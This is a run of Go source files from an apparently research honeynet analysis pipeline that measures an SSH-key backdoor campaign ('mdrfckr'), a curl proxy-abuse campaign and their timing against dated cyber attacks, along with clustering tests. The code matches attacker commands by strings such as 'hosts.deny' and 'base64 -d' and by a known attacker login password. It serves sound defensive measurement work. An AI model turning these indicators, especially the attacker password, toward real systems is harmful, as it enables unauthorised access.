	{"Hits on EU-country infrastructure", day(2022, 8, 1), day(2022, 8, 3)},
	{"Sandworm vs UA power grid + Killnet vs US airports", day(2022, 10, 10), day(2022, 10, 17)},
	{"KyivStar attack", day(2023, 3, 2), day(2023, 3, 11)},
	{"DDoS vs UA public administration and media", day(2023, 9, 1), day(2023, 9, 9)},
	{"APT29 data-theft attack", day(2024, 1, 19), day(2024, 1, 22)},
	{"Sandworm vs UA infrastructure", day(2024, 4, 4), day(2024, 4, 11)},
}

func day(y int, m time.Month, d int) time.Time {
	return time.Date(y, m, d, 0, 0, 0, 0, time.UTC)
}

// EventWindow summarizes campaign activity inside one event window
// against its surrounding baseline.
type EventWindow struct {
	Event Event
	// InsidePerDay is the mean mdrfckr sessions/day during the event.
	InsidePerDay float64
	// BaselinePerDay is the mean over the 14 days before and after.
	BaselinePerDay float64
}

// DropRatio returns inside/baseline (0 when there is no baseline).
func (e *EventWindow) DropRatio() float64 {
	if e.BaselinePerDay == 0 {
		return 0
	}
	return e.InsidePerDay / e.BaselinePerDay
}

// EventCorrelation quantifies the section 10 observation: the campaign's
// activity collapses during each documented event window relative to the
// two weeks on either side.
func EventCorrelation(w *World) []EventWindow {
	perDay := map[time.Time]int{}
	for _, r := range w.Store.All() {
		if !IsSSH(r) || r.Kind() != session.CommandExec || !isMdrfckr(r) {
			continue
		}
		perDay[r.Day()]++
	}
	mean := func(from, to time.Time) float64 {
		days, total := 0, 0
		for d := from; d.Before(to); d = d.AddDate(0, 0, 1) {
			days++
			total += perDay[d]
		}
		if days == 0 {
			return 0
		}
		return float64(total) / float64(days)
	}
	out := make([]EventWindow, 0, len(EventCalendar))
	for _, ev := range EventCalendar {
		inside := mean(ev.From, ev.To)
		before := mean(ev.From.AddDate(0, 0, -14), ev.From)
		after := mean(ev.To, ev.To.AddDate(0, 0, 14))
		out = append(out, EventWindow{
			Event:          ev,
			InsidePerDay:   inside,
			BaselinePerDay: (before + after) / 2,
		})
	}
	return out
}

// EventsTable renders the correlation.
func EventsTable(rows []EventWindow) *report.Table {
	t := &report.Table{
		Title:   "Section 10: mdrfckr activity during documented attack events",
		Headers: []string{"event", "window", "inside/day", "baseline/day", "ratio"},
	}
	for _, r := range rows {
		t.AddRow(r.Event.Name,
			r.Event.From.Format("2006-01-02")+".."+r.Event.To.Format("01-02"),
			r.InsidePerDay, r.BaselinePerDay, r.DropRatio())
	}
	return t
}
