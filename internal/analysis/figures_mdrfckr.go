package analysis

import (
	"strings"
	"time"

	"honeynet/internal/collector"
	"honeynet/internal/report"
	"honeynet/internal/session"
)

// isMdrfckr matches the campaign's sessions by its key label.
func isMdrfckr(r *session.Record) bool {
	return strings.Contains(r.CommandText(), "mdrfckr")
}

// isMdrfckrVariant identifies the post-2022-12-08 variant: it clears
// hosts.deny and removes the WorkMiner scripts instead of changing the
// root password.
func isMdrfckrVariant(r *session.Record) bool {
	txt := r.CommandText()
	return strings.Contains(txt, "mdrfckr") && strings.Contains(txt, "hosts.deny")
}

// ---------- Figure 12: mdrfckr volume over time ----------

// Fig12Day is one day's campaign volume.
type Fig12Day struct {
	Day       time.Time
	Sessions  int
	UniqueIPs int
}

// Fig12 computes the daily session and unique-IP series of the
// campaign.
func Fig12(w *World) []Fig12Day {
	perDay := map[time.Time]*Fig12Day{}
	ips := map[time.Time]map[string]bool{}
	for _, r := range w.Store.All() {
		if !IsSSH(r) || r.Kind() != session.CommandExec || !isMdrfckr(r) {
			continue
		}
		d := r.Day()
		row, ok := perDay[d]
		if !ok {
			row = &Fig12Day{Day: d}
			perDay[d] = row
			ips[d] = map[string]bool{}
		}
		row.Sessions++
		ips[d][r.ClientIP] = true
	}
	var out []Fig12Day
	for _, d := range collector.SortedMonths(perDay) {
		perDay[d].UniqueIPs = len(ips[d])
		out = append(out, *perDay[d])
	}
	return out
}

// Fig12Table renders the daily series downsampled to weekly rows to
// keep output readable.
func Fig12Table(rows []Fig12Day) *report.Table {
	t := &report.Table{
		Title:   "Figure 12: mdrfckr sessions and unique client IPs (weekly samples)",
		Headers: []string{"day", "sessions", "unique_ips"},
	}
	for i, r := range rows {
		if i%7 == 0 {
			t.AddRow(r.Day.Format("2006-01-02"), r.Sessions, r.UniqueIPs)
		}
	}
	return t
}

// ---------- Figure 13 + section 9 case study ----------

// CaseStudy is the full mdrfckr investigation.
type CaseStudy struct {
	// Volumes.
	Sessions  int
	UniqueIPs int
	// Variant split (Figure 13).
	InitialMonthly map[time.Time]int
	VariantMonthly map[time.Time]int
	Login3245      map[time.Time]int
	// IPOverlap3245 is the share of 3245gs5662d34 client IPs also seen
	// in mdrfckr sessions of the same period (the paper: 99.4%).
	IPOverlap3245 float64
	// DropWindowBase64 counts base64-script sessions inside vs outside
	// the campaign's low-activity windows.
	Base64InDrops, Base64Outside int
	// KillnetOverlap counts campaign IPs on the Killnet proxy list.
	KillnetOverlap int
	// CompromisedHosts is the Shadowserver-style key prevalence.
	CompromisedHosts int
}

// Mdrfckr runs the section 9 case study.
func Mdrfckr(w *World, keyHash string) *CaseStudy {
	cs := &CaseStudy{
		InitialMonthly: map[time.Time]int{},
		VariantMonthly: map[time.Time]int{},
		Login3245:      map[time.Time]int{},
	}
	mdrIPs := map[string]bool{}
	ips3245 := map[string]bool{}
	for _, r := range w.Store.All() {
		if !IsSSH(r) {
			continue
		}
		if r.Kind() == session.Intrusion {
			for _, l := range r.Logins {
				if l.Success && l.Password == "3245gs5662d34" {
					cs.Login3245[r.Month()]++
					ips3245[r.ClientIP] = true
				}
			}
			continue
		}
		if r.Kind() != session.CommandExec || !isMdrfckr(r) {
			continue
		}
		cs.Sessions++
		mdrIPs[r.ClientIP] = true
		if isMdrfckrVariant(r) {
			cs.VariantMonthly[r.Month()]++
		} else {
			cs.InitialMonthly[r.Month()]++
		}
		if strings.Contains(r.CommandText(), "base64 -d") {
			if inDropWindow(r.Start) {
				cs.Base64InDrops++
			} else {
				cs.Base64Outside++
			}
		}
	}
	cs.UniqueIPs = len(mdrIPs)
	if len(ips3245) > 0 {
		overlap := 0
		for ip := range ips3245 {
			if mdrIPs[ip] {
				overlap++
			}
		}
		cs.IPOverlap3245 = float64(overlap) / float64(len(ips3245))
	}
	ipList := make([]string, 0, len(mdrIPs))
	for ip := range mdrIPs {
		ipList = append(ipList, ip)
	}
	cs.KillnetOverlap = w.AbuseDB.KillnetOverlap(ipList)
	if keyHash != "" {
		cs.CompromisedHosts = w.AbuseDB.CompromisedHosts(keyHash)
	}
	return cs
}

// inDropWindow mirrors botnet.InMdrfckrDrop without importing it (the
// analysis must not depend on generator internals; the windows are the
// published event calendar of section 10).
var dropWindows = [][2]time.Time{
	{time.Date(2022, 3, 16, 0, 0, 0, 0, time.UTC), time.Date(2022, 3, 25, 0, 0, 0, 0, time.UTC)},
	{time.Date(2022, 4, 2, 0, 0, 0, 0, time.UTC), time.Date(2022, 4, 13, 0, 0, 0, 0, time.UTC)},
	{time.Date(2022, 8, 1, 0, 0, 0, 0, time.UTC), time.Date(2022, 8, 3, 0, 0, 0, 0, time.UTC)},
	{time.Date(2022, 10, 10, 0, 0, 0, 0, time.UTC), time.Date(2022, 10, 17, 0, 0, 0, 0, time.UTC)},
	{time.Date(2023, 3, 2, 0, 0, 0, 0, time.UTC), time.Date(2023, 3, 11, 0, 0, 0, 0, time.UTC)},
	{time.Date(2023, 9, 1, 0, 0, 0, 0, time.UTC), time.Date(2023, 9, 9, 0, 0, 0, 0, time.UTC)},
	{time.Date(2024, 1, 19, 0, 0, 0, 0, time.UTC), time.Date(2024, 1, 22, 0, 0, 0, 0, time.UTC)},
	{time.Date(2024, 4, 4, 0, 0, 0, 0, time.UTC), time.Date(2024, 4, 11, 0, 0, 0, 0, time.UTC)},
}

func inDropWindow(t time.Time) bool {
	for _, w := range dropWindows {
		if !t.Before(w[0]) && t.Before(w[1]) {
			return true
		}
	}
	return false
}

// Fig13Table renders the variant/credential comparison.
func (cs *CaseStudy) Fig13Table() *report.Table {
	months := map[time.Time]bool{}
	for m := range cs.InitialMonthly {
		months[m] = true
	}
	for m := range cs.VariantMonthly {
		months[m] = true
	}
	for m := range cs.Login3245 {
		months[m] = true
	}
	t := &report.Table{
		Title:   "Figure 13: mdrfckr-initial vs mdrfckr-variant vs 3245gs5662d34 logins",
		Headers: []string{"month", "mdrfckr-initial", "mdrfckr-variant", "login-3245gs5662d34"},
	}
	for _, m := range collector.SortedMonths(months) {
		t.AddRow(m.Format("2006-01"), cs.InitialMonthly[m], cs.VariantMonthly[m], cs.Login3245[m])
	}
	return t
}

// Table renders the case-study headline numbers.
func (cs *CaseStudy) Table() *report.Table {
	t := &report.Table{
		Title:   "Section 9: mdrfckr case study",
		Headers: []string{"metric", "value"},
	}
	t.AddRow("sessions", cs.Sessions)
	t.AddRow("unique client IPs", cs.UniqueIPs)
	t.AddRow("3245gs IP overlap", cs.IPOverlap3245)
	t.AddRow("base64 scripts in drop windows", cs.Base64InDrops)
	t.AddRow("base64 scripts outside", cs.Base64Outside)
	t.AddRow("Killnet list overlap", cs.KillnetOverlap)
	t.AddRow("hosts with mdrfckr key (Shadowserver)", cs.CompromisedHosts)
	return t
}

// ---------- Appendix C: the curl proxy-abuse campaign ----------

// CurlProxyStats summarizes the curl_maxred campaign.
type CurlProxyStats struct {
	Sessions     int
	ClientIPs    int
	Honeypots    int
	CurlRequests int
	From, To     time.Time
}

// CurlProxy computes the Appendix C numbers.
func CurlProxy(w *World) *CurlProxyStats {
	st := &CurlProxyStats{}
	ips := map[string]bool{}
	hps := map[string]bool{}
	for _, r := range w.Store.All() {
		if !IsSSH(r) || r.Kind() != session.CommandExec {
			continue
		}
		txt := r.CommandText()
		if !strings.Contains(txt, "max-redir") {
			continue
		}
		st.Sessions++
		ips[r.ClientIP] = true
		hps[r.HoneypotID] = true
		st.CurlRequests += strings.Count(txt, "curl ")
		if st.From.IsZero() || r.Start.Before(st.From) {
			st.From = r.Start
		}
		if r.Start.After(st.To) {
			st.To = r.Start
		}
	}
	st.ClientIPs = len(ips)
	st.Honeypots = len(hps)
	return st
}

// Table renders the proxy-abuse stats.
func (s *CurlProxyStats) Table() *report.Table {
	t := &report.Table{
		Title:   "Appendix C: curl proxy-abuse campaign (curl_maxred)",
		Headers: []string{"metric", "value"},
	}
	t.AddRow("sessions", s.Sessions)
	t.AddRow("client IPs", s.ClientIPs)
	t.AddRow("honeypots reached", s.Honeypots)
	t.AddRow("curl requests issued", s.CurlRequests)
	if !s.From.IsZero() {
		t.AddRow("first seen", s.From.Format("2006-01-02"))
		t.AddRow("last seen", s.To.Format("2006-01-02"))
	}
	return t
}
