package analysis

import (
	"sync/atomic"

	"honeynet/internal/classify"
	"honeynet/internal/obs"
	"honeynet/internal/textdist"
)

// Package-level work counters for the DLD kernel and the shared-matrix
// reuse paths. They are plain atomics (instrument pattern 2 of the obs
// package): analyzers add to them unconditionally, and Register bridges
// them into a registry via CounterFunc so a daemon that embeds the
// analysis pipeline exposes them on /metrics. Counters never feed back
// into results.
var (
	dldPairs        atomic.Int64 // pairwise distances requested
	dldPairsTrivial atomic.Int64 // resolved by affix strip / empty side alone
	dldPairsReused  atomic.Int64 // served from the shared matrix, not recomputed
	dldBandPasses   atomic.Int64 // banded DP passes across all pairs
	dldCells        atomic.Int64 // DP cells actually evaluated
	dldCellsSaved   atomic.Int64 // full-DP cells the band made unnecessary

	matrixReuse       atomic.Int64 // shared-sample memo hits (SelectK after RunClustering etc.)
	matrixCacheHits   atomic.Int64 // on-disk cache hits
	matrixCacheMisses atomic.Int64 // on-disk cache misses (matrix recomputed)
	matrixCacheErrors atomic.Int64 // unreadable/corrupt/unwritable cache entries
)

// addKernelStats folds one fill's merged per-worker kernel counters into
// the package totals.
func addKernelStats(st textdist.KernelStats) {
	dldPairs.Add(st.Pairs)
	dldPairsTrivial.Add(st.Trivial)
	dldBandPasses.Add(st.BandPasses)
	dldCells.Add(st.CellsDP)
	if saved := st.CellsFull - st.CellsDP; saved > 0 {
		dldCellsSaved.Add(saved)
	}
}

// Register exposes the analysis work counters on reg (nil-safe), along
// with the classifier's literal-prefilter counters. Call once per
// registry; the daemon wires this next to its component registrations
// so long-running analyze endpoints are observable.
func Register(reg *obs.Registry) {
	classify.Register(reg)
	reg.CounterFunc("honeynet_analysis_dld_pairs_total",
		"Pairwise token-DLD computations requested by the analysis pipeline.",
		dldPairs.Load)
	reg.CounterFunc("honeynet_analysis_dld_pairs_trivial_total",
		"DLD pairs resolved by prefix/suffix stripping without any DP pass.",
		dldPairsTrivial.Load)
	reg.CounterFunc("honeynet_analysis_dld_pairs_reused_total",
		"DLD pairs served from an already-computed shared matrix instead of recomputed.",
		dldPairsReused.Load)
	reg.CounterFunc("honeynet_analysis_dld_band_passes_total",
		"Banded DP passes run by the doubling-band DLD kernel.",
		dldBandPasses.Load)
	reg.CounterFunc("honeynet_analysis_dld_cells_total",
		"DP cells evaluated by the DLD kernel.",
		dldCells.Load)
	reg.CounterFunc("honeynet_analysis_dld_cells_saved_total",
		"Full-DP cells the banded DLD kernel short-circuited.",
		dldCellsSaved.Load)
	reg.CounterFunc("honeynet_analysis_matrix_reuse_total",
		"Times a memoized shared DLD sample+matrix satisfied an analysis stage.",
		matrixReuse.Load)
	reg.CounterFunc("honeynet_analysis_matrix_cache_hits_total",
		"On-disk DLD matrix cache hits.",
		matrixCacheHits.Load)
	reg.CounterFunc("honeynet_analysis_matrix_cache_misses_total",
		"On-disk DLD matrix cache misses (matrix recomputed and stored).",
		matrixCacheMisses.Load)
	reg.CounterFunc("honeynet_analysis_matrix_cache_errors_total",
		"On-disk DLD matrix cache entries that were unreadable, corrupt, or unwritable.",
		matrixCacheErrors.Load)
}
