package analysis

import (
	"os"
	"path/filepath"
	"testing"

	"honeynet/internal/cluster"
)

// freshWorld clones the shared test dataset into a world with a cold
// sample memo (the memo lives on the World, so tests that need a real
// rebuild must not share testWorld's).
func freshWorld(t *testing.T) *World {
	t.Helper()
	w := testWorld(t)
	return &World{
		Store:      w.Store,
		Registry:   w.Registry,
		AbuseDB:    w.AbuseDB,
		Classifier: w.Classifier,
	}
}

func sameMatrix(t *testing.T, a, b *cluster.Matrix) {
	t.Helper()
	if a.N != b.N {
		t.Fatalf("matrix size %d != %d", a.N, b.N)
	}
	for i := 0; i < a.N; i++ {
		for j := i + 1; j < a.N; j++ {
			if a.At(i, j) != b.At(i, j) {
				t.Fatalf("matrix differs at (%d,%d): %v != %v", i, j, a.At(i, j), b.At(i, j))
			}
		}
	}
}

// TestDLDSampleMemo: the same (SampleSize, Seed) must return the
// identical sample object; a different key must rebuild.
func TestDLDSampleMemo(t *testing.T) {
	w := freshWorld(t)
	cfg := ClusterConfig{SampleSize: 200, Seed: 5}
	a, err := w.DLDSample(cfg)
	if err != nil {
		t.Fatal(err)
	}
	b, err := w.DLDSample(ClusterConfig{K: 40, SampleSize: 200, Seed: 5, Workers: 2})
	if err != nil {
		t.Fatal(err)
	}
	if a != b {
		t.Error("same sampling key did not reuse the memoized sample")
	}
	c, err := w.DLDSample(ClusterConfig{SampleSize: 150, Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	if a == c {
		t.Error("different SampleSize reused the memoized sample")
	}
}

// TestMatrixDiskCache: a second world over the same dataset and cache
// directory must load the stored matrix byte-identically, and a corrupt
// entry must be recomputed, not trusted.
func TestMatrixDiskCache(t *testing.T) {
	dir := t.TempDir()
	cfg := ClusterConfig{SampleSize: 200, Seed: 5}

	w1 := freshWorld(t)
	w1.MatrixCache = dir
	s1, err := w1.DLDSample(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if s1.FromCache {
		t.Fatal("first build reported FromCache")
	}
	entries, err := filepath.Glob(filepath.Join(dir, "dldm-*.bin"))
	if err != nil || len(entries) != 1 {
		t.Fatalf("cache entries = %v (err %v), want exactly one", entries, err)
	}

	w2 := freshWorld(t)
	w2.MatrixCache = dir
	s2, err := w2.DLDSample(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !s2.FromCache {
		t.Fatal("second build did not hit the cache")
	}
	sameMatrix(t, s1.Matrix, s2.Matrix)

	// Corrupt the entry: the loader must reject it and recompute.
	if err := os.WriteFile(entries[0], []byte("HNDLDM1\ngarbage"), 0o644); err != nil {
		t.Fatal(err)
	}
	w3 := freshWorld(t)
	w3.MatrixCache = dir
	s3, err := w3.DLDSample(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if s3.FromCache {
		t.Fatal("corrupt cache entry was trusted")
	}
	sameMatrix(t, s1.Matrix, s3.Matrix)
}

// TestSubmatrix: the extracted submatrix must equal the source cells.
func TestSubmatrix(t *testing.T) {
	m := cluster.NewMatrix(5)
	v := 0.0
	for i := 0; i < 5; i++ {
		for j := i + 1; j < 5; j++ {
			v += 0.125
			m.Set(i, j, v)
		}
	}
	idx := []int{0, 2, 4}
	sub := submatrix(m, idx)
	if sub.N != 3 {
		t.Fatalf("sub.N = %d", sub.N)
	}
	for a := 0; a < 3; a++ {
		for b := 0; b < 3; b++ {
			if sub.At(a, b) != m.At(idx[a], idx[b]) {
				t.Errorf("sub(%d,%d) = %v, want %v", a, b, sub.At(a, b), m.At(idx[a], idx[b]))
			}
		}
	}
}

// TestRunClusteringSharesMatrix: RunClustering and SelectK over the same
// config must share one matrix instance (the reuse the scheduler and
// k-sweep rely on).
func TestRunClusteringSharesMatrix(t *testing.T) {
	w := freshWorld(t)
	cfg := ClusterConfig{K: 20, SampleSize: 200, Seed: 5}
	cres, err := RunClustering(w, cfg)
	if err != nil {
		t.Fatal(err)
	}
	smp, err := w.DLDSample(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if cres.Matrix != smp.Matrix {
		t.Error("RunClustering did not reuse the shared sample matrix")
	}
	if _, err := SelectK(w, []int{2, 5, 10}, 100, 5, cfg); err != nil {
		t.Fatal(err)
	}
}
