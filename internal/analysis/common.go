// Package analysis implements one analyzer per table and figure of the
// paper's evaluation. Each analyzer consumes the honeynet session store
// (plus the AS registry and abuse database where the figure joins on
// them) and produces both a typed result and a printable report.Table.
package analysis

import (
	"sort"
	"sync"
	"time"

	"honeynet/internal/abusedb"
	"honeynet/internal/asdb"
	"honeynet/internal/classify"
	"honeynet/internal/collector"
	"honeynet/internal/obs"
	"honeynet/internal/parallel"
	"honeynet/internal/session"
)

// World bundles everything the analyzers read.
type World struct {
	Store      *collector.Store
	Registry   *asdb.Registry
	AbuseDB    *abusedb.DB
	Classifier *classify.Classifier
	// Workers caps the goroutines used by the parallel analyzers
	// (<= 0 means runtime.NumCPU(), 1 is fully serial). Every analyzer
	// produces identical output for every value.
	Workers int
	// Tracer, if set, records per-phase wall time (hnanalyze -timings).
	// Spans only observe the clock: results are identical with or
	// without one.
	Tracer *obs.Tracer
	// MatrixCache, when non-empty, is a directory for the on-disk DLD
	// matrix cache (hnanalyze -cache). Entries are keyed by a content
	// hash over the sampled texts plus the textdist kernel version, so
	// a cached matrix is only ever reused for the byte-identical input
	// it was computed from.
	MatrixCache string

	// The memoized shared DLD sample (see DLDSample): one
	// tokenize+intern pass and one matrix fill feed both SelectK and
	// RunClustering.
	sampleMu  sync.Mutex
	sampleCfg sampleKey
	sample    *DLDSample
}

// workers resolves the configured worker count.
func (w *World) workers() int { return parallel.Workers(w.Workers) }

// span starts a named phase span on the world's tracer (nil-safe).
func (w *World) span(name string) *obs.Span { return w.Tracer.Span(name) }

// IsSSH reports whether a record belongs to the SSH subset the paper's
// analyses use (section 3.3 keeps 546M of 635M sessions).
func IsSSH(r *session.Record) bool { return r.Protocol == session.ProtoSSH }

// SSHSessions returns the SSH subset of the store.
func SSHSessions(store *collector.Store) []*session.Record {
	return store.Filter(IsSSH)
}

// CmdExecSessions returns SSH sessions that executed at least one
// command.
func CmdExecSessions(store *collector.Store) []*session.Record {
	return store.Filter(func(r *session.Record) bool {
		return IsSSH(r) && r.Kind() == session.CommandExec
	})
}

// HasExec reports whether a session attempted to execute a file.
func HasExec(r *session.Record) bool { return len(r.ExecAttempts) > 0 }

// ExecFileExists reports whether any exec attempt found its file.
func ExecFileExists(r *session.Record) bool {
	for _, e := range r.ExecAttempts {
		if e.FileExists {
			return true
		}
	}
	return false
}

// monthKey truncates to month.
func monthKey(t time.Time) time.Time {
	return time.Date(t.Year(), t.Month(), 1, 0, 0, 0, 0, time.UTC)
}

// MonthlyCategoryShares counts sessions per (month, category) and
// returns sorted months plus per-month category counts.
type MonthlyCategoryShares struct {
	Months []time.Time
	// Counts[month][category] = sessions.
	Counts map[time.Time]map[string]int
	// Totals[month] = all sessions that month.
	Totals map[time.Time]int
}

// TopCategories returns the overall top-n categories by session count.
func (m *MonthlyCategoryShares) TopCategories(n int) []string {
	totals := map[string]int{}
	for _, byCat := range m.Counts {
		for c, v := range byCat {
			totals[c] += v
		}
	}
	cats := make([]string, 0, len(totals))
	for c := range totals {
		cats = append(cats, c)
	}
	sort.Slice(cats, func(i, j int) bool {
		if totals[cats[i]] != totals[cats[j]] {
			return totals[cats[i]] > totals[cats[j]]
		}
		return cats[i] < cats[j]
	})
	if len(cats) > n {
		cats = cats[:n]
	}
	return cats
}

// Share returns the category's share of a month's sessions.
func (m *MonthlyCategoryShares) Share(month time.Time, cat string) float64 {
	t := m.Totals[month]
	if t == 0 {
		return 0
	}
	return float64(m.Counts[month][cat]) / float64(t)
}

// categorize builds monthly category shares for a session subset. The
// classification fans out over `workers` goroutines via the classifier's
// batch API; the monthly tally stays serial (counts are order-invariant
// anyway).
func categorize(w *World, recs []*session.Record) *MonthlyCategoryShares {
	texts := make([]string, len(recs))
	for i, r := range recs {
		texts[i] = r.CommandText()
	}
	cats := w.classifyAll(texts)
	out := &MonthlyCategoryShares{
		Counts: map[time.Time]map[string]int{},
		Totals: map[time.Time]int{},
	}
	for i, r := range recs {
		m := r.Month()
		byCat, ok := out.Counts[m]
		if !ok {
			byCat = map[string]int{}
			out.Counts[m] = byCat
		}
		byCat[cats[i]]++
		out.Totals[m]++
	}
	out.Months = collector.SortedMonths(out.Counts)
	return out
}

// classifyAll runs the batch classifier under a "classify.batch" span.
func (w *World) classifyAll(texts []string) []string {
	defer w.span("classify.batch").End()
	return w.Classifier.ClassifyAll(texts, w.workers())
}

// quantile returns the q-quantile (0..1) of sorted values.
func quantile(sorted []float64, q float64) float64 {
	if len(sorted) == 0 {
		return 0
	}
	pos := q * float64(len(sorted)-1)
	i := int(pos)
	if i >= len(sorted)-1 {
		return sorted[len(sorted)-1]
	}
	frac := pos - float64(i)
	return sorted[i]*(1-frac) + sorted[i+1]*frac
}
