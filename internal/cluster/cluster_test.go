package cluster

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

// threeBlobs builds a matrix with three well-separated groups.
func threeBlobs(perGroup int) (*Matrix, []int) {
	n := 3 * perGroup
	truth := make([]int, n)
	for i := range truth {
		truth[i] = i / perGroup
	}
	r := rand.New(rand.NewSource(42))
	m := Fill(n, func(i, j int) float64 {
		if truth[i] == truth[j] {
			return 0.05 + 0.05*r.Float64()
		}
		return 0.8 + 0.2*r.Float64()
	})
	return m, truth
}

func TestMatrixSymmetry(t *testing.T) {
	m := NewMatrix(5)
	m.Set(1, 3, 2.5)
	if m.At(3, 1) != 2.5 || m.At(1, 3) != 2.5 {
		t.Error("matrix must be symmetric")
	}
	if m.At(2, 2) != 0 {
		t.Error("diagonal must be zero")
	}
}

func TestMatrixIndexProperty(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		n := 2 + r.Intn(20)
		m := NewMatrix(n)
		vals := map[[2]int]float64{}
		for k := 0; k < 30; k++ {
			i, j := r.Intn(n), r.Intn(n)
			if i == j {
				continue
			}
			v := r.Float64()
			m.Set(i, j, v)
			if i > j {
				i, j = j, i
			}
			vals[[2]int{i, j}] = v
		}
		for key, v := range vals {
			if m.At(key[0], key[1]) != v {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestKMedoidsRecoversBlobs(t *testing.T) {
	m, truth := threeBlobs(20)
	res, err := KMedoids(m, 3, Config{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	// Every pair in the same true group must share a cluster, and
	// cross-group pairs must not.
	for i := 0; i < m.N; i++ {
		for j := i + 1; j < m.N; j++ {
			same := truth[i] == truth[j]
			got := res.Assign[i] == res.Assign[j]
			if same != got {
				t.Fatalf("items %d,%d: same-group=%v clustered-together=%v", i, j, same, got)
			}
		}
	}
	sizes := res.Sizes()
	for c, s := range sizes {
		if s != 20 {
			t.Errorf("cluster %d size = %d, want 20", c, s)
		}
	}
}

func TestKMedoidsDeterministic(t *testing.T) {
	m, _ := threeBlobs(10)
	a, _ := KMedoids(m, 3, Config{Seed: 5})
	b, _ := KMedoids(m, 3, Config{Seed: 5})
	for i := range a.Assign {
		if a.Assign[i] != b.Assign[i] {
			t.Fatal("same seed must give identical clustering")
		}
	}
}

func TestKMedoidsValidatesK(t *testing.T) {
	m := NewMatrix(3)
	if _, err := KMedoids(m, 0, Config{}); err == nil {
		t.Error("k=0 must fail")
	}
	if _, err := KMedoids(m, 4, Config{}); err == nil {
		t.Error("k>n must fail")
	}
}

func TestSilhouetteSeparatedVsRandom(t *testing.T) {
	m, _ := threeBlobs(15)
	good, _ := KMedoids(m, 3, Config{Seed: 1})
	sGood := Silhouette(m, good)
	if sGood < 0.7 {
		t.Errorf("silhouette of well-separated clustering = %.2f, want high", sGood)
	}
	// Deliberately wrong k gives a worse silhouette.
	bad, _ := KMedoids(m, 9, Config{Seed: 1})
	if sBad := Silhouette(m, bad); sBad >= sGood {
		t.Errorf("silhouette with wrong k (%.2f) should be below correct k (%.2f)", sBad, sGood)
	}
}

func TestSweepAndElbowFindsTrueK(t *testing.T) {
	m, _ := threeBlobs(15)
	points, err := SweepK(m, []int{2, 3, 4, 5, 6}, Config{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	// WCSS must be non-increasing in k (within tolerance for local
	// optima).
	for i := 1; i < len(points); i++ {
		if points[i].WCSS > points[i-1].WCSS*1.05 {
			t.Errorf("WCSS rose sharply from k=%d to k=%d", points[i-1].K, points[i].K)
		}
	}
	if k := Elbow(points); k != 3 {
		t.Errorf("elbow = %d, want 3", k)
	}
}

func TestRandomInitStillConverges(t *testing.T) {
	m, truth := threeBlobs(15)
	res, err := KMedoids(m, 3, Config{Seed: 9, RandomInit: true})
	if err != nil {
		t.Fatal(err)
	}
	// Random init may mislabel some items but should get most pairs
	// right on trivially-separated data.
	agree, total := 0, 0
	for i := 0; i < m.N; i++ {
		for j := i + 1; j < m.N; j++ {
			total++
			if (truth[i] == truth[j]) == (res.Assign[i] == res.Assign[j]) {
				agree++
			}
		}
	}
	// Random seeding is measurably worse than farthest-point seeding on
	// this data — that gap is the point of the seeding ablation — but it
	// must still produce a valid, mostly-sane clustering.
	if frac := float64(agree) / float64(total); frac < 0.6 {
		t.Errorf("random-init pair agreement = %.2f", frac)
	}
	det, _ := KMedoids(m, 3, Config{Seed: 9})
	detAgree := 0
	for i := 0; i < m.N; i++ {
		for j := i + 1; j < m.N; j++ {
			if (truth[i] == truth[j]) == (det.Assign[i] == det.Assign[j]) {
				detAgree++
			}
		}
	}
	if detAgree < agree {
		t.Errorf("deterministic seeding (%d) should beat random seeding (%d)", detAgree, agree)
	}
}

func TestWCSSIsSumOfSquares(t *testing.T) {
	m, _ := threeBlobs(5)
	res, _ := KMedoids(m, 3, Config{Seed: 1})
	want := 0.0
	for i := 0; i < m.N; i++ {
		d := m.At(i, res.Medoids[res.Assign[i]])
		want += d * d
	}
	if math.Abs(res.WCSS-want) > 1e-9 {
		t.Errorf("WCSS = %f, want %f", res.WCSS, want)
	}
}

func TestMembers(t *testing.T) {
	m, _ := threeBlobs(4)
	res, _ := KMedoids(m, 3, Config{Seed: 1})
	seen := map[int]bool{}
	for c := 0; c < 3; c++ {
		for _, i := range res.Members(c) {
			if seen[i] {
				t.Fatalf("item %d in two clusters", i)
			}
			seen[i] = true
			if res.Assign[i] != c {
				t.Fatalf("Members(%d) returned item assigned to %d", c, res.Assign[i])
			}
		}
	}
	if len(seen) != m.N {
		t.Errorf("members cover %d of %d items", len(seen), m.N)
	}
}

func BenchmarkKMedoidsN300K10(b *testing.B) {
	r := rand.New(rand.NewSource(3))
	m := Fill(300, func(i, j int) float64 { return r.Float64() })
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := KMedoids(m, 10, Config{Seed: int64(i)}); err != nil {
			b.Fatal(err)
		}
	}
}
