package cluster

import (
	"runtime"
	"testing"
)

// randomMatrix builds an n×n matrix with pseudo-random distances derived
// from the pair indices (order-independent, so Fill and FillParallel see
// the same function).
func randomMatrix(n int, seed int64) *Matrix {
	return Fill(n, func(i, j int) float64 {
		h := uint64(seed)*0x9e3779b97f4a7c15 + uint64(i)*0x85ebca77c2b2ae63 + uint64(j)*0xc2b2ae3d27d4eb4f
		h ^= h >> 33
		h *= 0xff51afd7ed558ccd
		h ^= h >> 33
		return float64(h%100000) / 100000
	})
}

var workerCounts = []int{1, 2, 8}

// TestFillParallelMatchesFill: the parallel fill must produce the exact
// matrix of the serial fill at every worker count and GOMAXPROCS.
func TestFillParallelMatchesFill(t *testing.T) {
	dist := func(i, j int) float64 {
		return float64((i*31+j*17)%97) / 97
	}
	for _, n := range []int{0, 1, 2, 50, 173} {
		want := Fill(n, dist)
		for _, procs := range []int{1, 4} {
			prev := runtime.GOMAXPROCS(procs)
			for _, workers := range workerCounts {
				got := FillParallel(n, workers, func(_, i, j int) float64 { return dist(i, j) })
				for i := range want.d {
					if got.d[i] != want.d[i] {
						runtime.GOMAXPROCS(prev)
						t.Fatalf("n=%d procs=%d workers=%d: slot %d differs", n, procs, workers, i)
